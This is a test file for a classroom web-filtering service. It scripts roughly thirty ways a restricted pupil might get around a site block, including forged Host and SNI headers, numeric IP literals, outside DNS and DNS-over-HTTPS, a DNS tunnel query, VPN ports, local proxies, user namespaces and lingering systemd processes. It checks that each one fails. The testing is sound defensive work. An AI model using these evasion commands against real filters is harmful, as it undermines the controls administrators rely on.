// SPDX-License-Identifier: GPL-3.0-or-later
// Threats under a limit of the web: what a limited pupil tries to reach a closed site, or to carry anything out at
// all. Every way is first shown to work for a pupil who is not limited; for the limited one it must fail, fail at
// once, and nothing of it may leave the computer.
import assert from "node:assert/strict";
import { before, describe } from "node:test";
import { inSession } from "../harness/attack.js";
import { check, useDemo } from "../harness/demo.js";
import { addresses as at, Internet, names } from "../harness/internet.js";
import { fillRoom, ready, type Person } from "../harness/room.js";
import { limit, NotYet, until } from "../harness/wait.js";

interface Attack {
  name: string;
  /** A bash script that a pupil runs. */
  script: string;
  /** What it writes where it works. */
  works: RegExp;
  /** Refused by the limit "all but" too, which leaves the rest of the web open. */
  deny?: boolean;
}

const curl = "curl -sk --max-time 8";
const closedSite = /AT (203\.0\.113\.66|2001:db8:1::66)/;
const udp = (port: number, host: string = at.closed) => `node -e '
  const s = require("dgram").createSocket("udp4");
  s.on("message", (m) => { console.log(String(m)); process.exit(); });
  s.on("error", (e) => { console.log(e.code); process.exit(1); });
  s.send("x".repeat(1200), ${port}, "${host}", (e) => { if (e) { console.log(e.code); process.exit(1); } });
  setTimeout(() => process.exit(2), 3000);'`;
const tcp = (port: number, host: string = at.closed) => `node -e '
  const s = require("net").connect(${port}, "${host}");
  s.on("data", (m) => { console.log(String(m)); process.exit(); });
  s.on("error", (e) => { console.log(e.code); process.exit(1); });
  s.setTimeout(3000, () => process.exit(2));'`;
/** Requests in clear, one after the other on one connection to the address of the closed site. */
const raw = (...requests: string[]) => `node -e '
  const s = require("net").connect(80, "${at.closed}");
  const requests = ${JSON.stringify(requests).replaceAll("'", "")};
  const next = () => requests.length ? s.write(requests.shift()) : s.destroy();
  s.on("data", (m) => { console.log(String(m)); next(); });
  s.on("error", (e) => console.log(e.code)).on("connect", next).on("close", () => process.exit());
  s.setTimeout(3000, () => process.exit(2));'`;
const get = (host: string, path = "/") => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: keep-alive\r\n\r\n`;
const hello = (more: string) => `(printf 'GET / HTTP/1.1\\r\\nHost: ${names.closed}\\r\\nConnection: close\\r\\n\\r\\n'; sleep 2) | timeout 8 openssl s_client -quiet -connect ${at.closed}:443 ${more} 2>/dev/null`;

const attacks: Attack[] = [
  { name: "the closed site by its name", script: `${curl} https://${names.closed}/ http://${names.closed}/`, works: closedSite, deny: true },
  { name: "a site whose name ends with the same letters", script: `${curl} https://${names.alike}/ http://${names.alike}/`, works: /SITE/ },
  { name: "capital letters and a dot at the end", script: `${curl} https://${names.closed.toUpperCase()}./ http://${names.closed.toUpperCase()}./`, works: closedSite, deny: true },
  { name: "IP literals", script: `${curl} https://${at.closed}/; ${curl} http://${at.closed}/`, works: closedSite, deny: true },
  { name: "IP literals of IPv6", script: `${curl} 'https://[${at.closed6}]/'; ${curl} 'http://[${at.closed6}]/'`, works: closedSite, deny: true },
  { name: "IP literals written as a number", script: `${curl} http://3405803842/; ${curl} -H 'Host: 3405803842' http://${at.closed}/; ${curl} -H 'Host: 0xcb.0.0x71.0x42' http://${at.closed}/`, works: closedSite, deny: true },
  { name: "the open name given another address", script: `${curl} --resolve ${names.open}:443:${at.closed} https://${names.open}/; ${curl} --resolve ${names.open}:80:${at.closed} http://${names.open}/`, works: closedSite },
  { name: "a forged Host header", script: `${curl} -H 'Host: ${names.open}' http://${at.closed}/`, works: closedSite },
  { name: "the closed site as the second request of a connection", script: raw(get(names.open), get(names.closed)), works: new RegExp(`SITE ${names.closed}`), deny: true },
  { name: "an address in the request line against the Host header", script: raw(get(names.open, `http://${names.closed}/`)), works: closedSite },
  { name: "CONNECT to the web port", script: raw(`CONNECT ${names.closed}:443 HTTP/1.1\r\nHost: ${names.open}\r\n\r\n`, get(names.closed)), works: new RegExp(`SITE ${names.closed}`) },
  { name: "a forged server name", script: hello(`-servername ${names.open}`), works: closedSite },
  { name: "TLS without a server name", script: hello("-noservername"), works: closedSite, deny: true },
  { name: "IPv6", script: `${curl} -6 https://${names.closed}/ http://${names.closed}/`, works: closedSite, deny: true },
  { name: "another DNS server", script: `dig +short +time=2 +tries=1 @8.8.8.8 ${names.closed}; dig +short +tcp +time=2 +tries=1 @8.8.8.8 ${names.closed}; dig +short +time=2 +tries=1 @2001:db8::53 ${names.closed}`, works: /203\.0\.113\.66/, deny: true },
  { name: "a tunnel in questions to DNS", script: `dig +short +time=2 +tries=1 TXT secret.tunnel.example; dig +short +time=2 +tries=1 @8.8.8.8 TXT secret.tunnel.example; dig +time=2 +tries=1 passwd.root.x.tunnel.example`, works: /carried/, deny: true },
  { name: "DNS over HTTPS at an address", script: `${curl} --doh-insecure --doh-url https://${at.doh}/dns-query https://${names.closed}/`, works: closedSite, deny: true },
  { name: "DNS over HTTPS at a well-known service", script: `curl -s --max-time 8 -k 'https://dns.google/dns-query?dns=AAABAAABAAAAAAAACGZhYnJpa2FtB2V4YW1wbGUAAAEAAQ' | od -An -tx1 | tr -d ' \\n'`, works: /cb007142/, deny: true },
  { name: "DNS over TLS", script: tcp(853), works: /HELLO/, deny: true },
  { name: "QUIC: UDP to port 443", script: udp(443), works: /HELLO/, deny: true },
  { name: "a VPN: UDP", script: `${udp(1194)}; ${udp(51820)}`, works: /HELLO/, deny: true },
  { name: "a VPN or shell on TCP", script: `${tcp(22)}; ${tcp(1080)}; ${tcp(8443)}`, works: /HELLO/, deny: true },
  { name: "ping", script: `ping -c1 -W2 ${at.closed}; ping -c1 -W2 ${at.closed6}`, works: /1 received/, deny: true },
  { name: "a proxy outside", script: `${curl} -x http://${at.closed}:3128 http://${names.closed}/; ${curl} -p -x http://${at.closed}:3128 https://${names.closed}/`, works: /SITE/, deny: true },
  { name: "a proxy of somebody else on this computer", script: `${curl} -x http://127.0.0.1:3128 http://${names.closed}/; ${curl} -x 'http://[::1]:3128' http://${names.closed}/; ${curl} -x http://192.0.2.1:3128 http://${names.closed}/`, works: /SITE/, deny: true },
  { name: "a port of another program on this computer", script: tcp(5222, "127.0.0.1"), works: /HELLO/, deny: true },
  { name: "the DNS of the filters", script: `dig +short +time=2 +tries=1 -p 855 @127.0.0.1 TXT secret.tunnel.example`, works: /carried/, deny: true },
  { name: "uids of /etc/subuid", script: `unshare --map-auto --map-root-user -- setpriv --reuid 7 --clear-groups ${curl} http://${names.closed}/`, works: closedSite, deny: true },
  { name: "a service of the user's manager, out of the session", script: `systemd-run --user --quiet --pipe --wait ${curl} http://${names.closed}/`, works: closedSite, deny: true },
];

describe("threats under a limit of the web", () => {
  const demo = useDemo("web");
  let [limited, free, other]: Person[] = [];
  let internet: Internet;
  const operator = () => demo.account("operator").name;

  before(async () => {
    [limited, free, other] = await fillRoom(demo, 3);
    internet = await Internet.open(demo);
    await demo.sh(`printf 'nameserver ${at.dns}\\n' >/etc/resolv.conf`);
    // Somebody else's proxy and program on this computer, as a class-mate or an administrator may have them.
    await demo.write("/usr/local/lib/helper.js", `
      require("http").createServer((q, r) => { require("http").get({ host: "${at.closed}", path: "/", headers: { host: q.headers.host } }, (a) => a.pipe(r)).on("error", () => r.destroy()); }).listen(3128, "::");
      require("net").createServer((s) => { s.on("error", () => {}); s.end("HELLO\\n"); }).listen(5222, "::", () => require("fs").writeFileSync("/run/helper", ""));`);
    await demo.sh("systemd-run --quiet --unit=helper node /usr/local/lib/helper.js");
    await until("the helper", () => demo.test("[ -e /run/helper ]"));
    await demo.startSessions([limited!.name, free!.name]);
    for (const who of [limited!, free!]) await ready(demo, who, 0);
  }, { timeout: 120_000 });

  const order = async (parameters: object) => {
    const { targets } = await demo.call<{ targets: { state: string; reason: string }[] }>("Limits.Limit", parameters as Record<string, unknown>, operator());
    assert.deepEqual(targets.filter((t) => t.state !== "done"), []);
  };
  const letGo = () => demo.call("Limits.Free", { all: true }, operator());

  /** What has reached the internet and is not what the filter itself does for the pupil. */
  async function leaks(allowed: readonly string[]): Promise<string[]> {
    const mine = (await internet.packets()).filter((p) => !allowed.some((a) => p.startsWith(a)));
    return [...mine, ...internet.hits.filter((h) => h.server === "dns" && /tunnel/.test(h.name)).map((h) => `DNS ${h.name}`)];
  }

  async function attempt(a: Attack, allowed: readonly string[]): Promise<void> {
    const control = await inSession(demo, free!, a.script, 30_000);
    assert.match(control.output, a.works, `it does not work for who is not limited: ${control.output}`);
    await internet.forget();
    const t0 = Date.now();
    const { output } = await inSession(demo, limited!, a.script, 30_000);
    const took = Date.now() - t0;
    assert.doesNotMatch(output, a.works);
    assert.deepEqual(await leaks(allowed), [], `out of the computer: ${output}`);
    assert.ok(took < limit(6000), `refused after ${took} ms only`);
  }

  const byFilter = [`${at.dns} . udp . 53`, `${at.open} . tcp . `];

  describe("these sites only", () => {
    before(() => order({ users: [limited!.name], mode: "allow", domains: [names.open] }));
    for (const a of attacks) check(demo, a.name, () => attempt(a, byFilter));

    check(demo, "help by another account: its password gives its own web, not a way around the limit of everybody", async () => {
      const script = `printf '%s\\n' '${other!.password}' | su ${other!.name} -c '${curl} http://${names.closed}/' 2>&1`;
      assert.match((await inSession(demo, free!, script, 30_000)).output, closedSite);
      await order({ all: true, mode: "allow", domains: [names.open] });
      await internet.forget();
      // No session of the other account is there, and none comes with su.
      assert.doesNotMatch((await inSession(demo, limited!, script, 30_000)).output, closedSite);
      assert.deepEqual(await leaks(byFilter), []);
      await letGo();
      await order({ users: [limited!.name], mode: "allow", domains: [names.open] });
    });

    check(demo, "a connection that was open before is cut, and no other one", async () => {
      await letGo();
      const hold = (name: string) => `node -e '
        const s = require("tls").connect({ host: "${at.closed}", port: 443, servername: "${names.closed}", rejectUnauthorized: false });
        const ask = () => s.write("GET / HTTP/1.1\\r\\nHost: ${names.closed}\\r\\n\\r\\n");
        s.on("secureConnect", ask).on("data", () => { require("fs").appendFileSync("/tmp/${name}", "x"); setTimeout(ask, 50); });
        s.on("error", () => {}).on("close", () => require("fs").writeFileSync("/tmp/${name}.cut", ""));
        setInterval(() => {}, 1000);'`;
      const [one, two] = ["held-limited", "held-free"];
      for (const [who, file] of [[limited!, one], [free!, two]] as const) {
        await demo.write(`/tmp/${file}.sh`, hold(file!), "755");
        await demo.inSession(who.name, `bash /tmp/${file}.sh`);
        await until("the connection is used", () => demo.test(`[ -s /tmp/${file} ]`));
      }
      await order({ users: [limited!.name], mode: "allow", domains: [names.open] });
      const length = () => demo.sh(`stat -c %s /tmp/${two}`).then(Number);
      await internet.forget();
      const n = await length();
      await until("the other's connection goes on", async () => (await length()) > n + 5);
      const mine = await demo.sh(`stat -c %s /tmp/${one}`);
      await until("it goes on", async () => (await length()) > n + 10);
      assert.equal(await demo.sh(`stat -c %s /tmp/${one}`), mine, "the limited one's connection still brings something");
      await demo.sh(`pkill -u ${limited!.name},${free!.name} -x node`);
    });

    check(demo, "a process that survives the log-off, and one that was never in a session", async () => {
      const script = `while :; do ${curl} http://${names.closed}/ >>/tmp/survivor 2>&1; echo tried >>/tmp/tries; sleep 0.2; done`;
      await demo.write("/tmp/survivor.sh", script, "755");
      await demo.sh(`rm -f /tmp/tries; install -o ${limited!.name} /dev/null /tmp/survivor; loginctl enable-linger ${limited!.name}`);
      await until("its manager", () => demo.test(`[ -S /run/user/$(id -u ${limited!.name})/bus ]`));
      await inSession(demo, limited!, "systemd-run --user --quiet --collect bash /tmp/survivor.sh");
      await until("it tries", () => demo.test("[ -s /tmp/tries ]"));
      const { job } = await demo.call<{ job: string }>("Sessions.LogOff", { users: [limited!.name], timeout_ms: 1000 });
      if (job) await demo.finished(job);
      await until("no session", async () => (await demo.sessionOf(limited!.name)) === undefined);
      const before = await demo.sh("wc -l </tmp/tries");
      await until("it tries after the log-off", async () => {
        const now = await demo.sh("wc -l </tmp/tries");
        if (Number(now) < Number(before) + 3) throw new NotYet(now);
        return true;
      });
      assert.doesNotMatch(await demo.sh("cat /tmp/survivor"), closedSite);
      assert.doesNotMatch(await demo.sh(`runuser -u ${limited!.name} -- ${curl} http://${names.closed}/`), closedSite);
      await demo.sh(`loginctl disable-linger ${limited!.name}`);
      await until("it has ended", () => demo.test(`! pgrep -u ${limited!.name} -f survivor.sh`));
      await demo.startSession(limited!.name);
      await ready(demo, limited!, 0);
    }, 120_000);
  });

  describe("all but these sites", () => {
    before(async () => {
      await letGo();
      await order({ users: [limited!.name], mode: "deny", domains: [names.closed] });
    });
    // The filter may go wherever a name leads but to the closed site; the rest is what it is for "these sites only".
    const open = [...byFilter, `${at.doh} . tcp . 443`];
    for (const a of attacks.filter((x) => x.deny)) check(demo, a.name, () => attempt(a, a.name.startsWith("DNS over HTTPS") ? byFilter : open));

    check(demo, "the rest of the web is open", async () => {
      assert.match((await inSession(demo, limited!, `${curl} https://${names.alike}/ http://${names.open}/`)).output, /SITE notcontoso[^]*SITE contoso/);
    });
  });
});
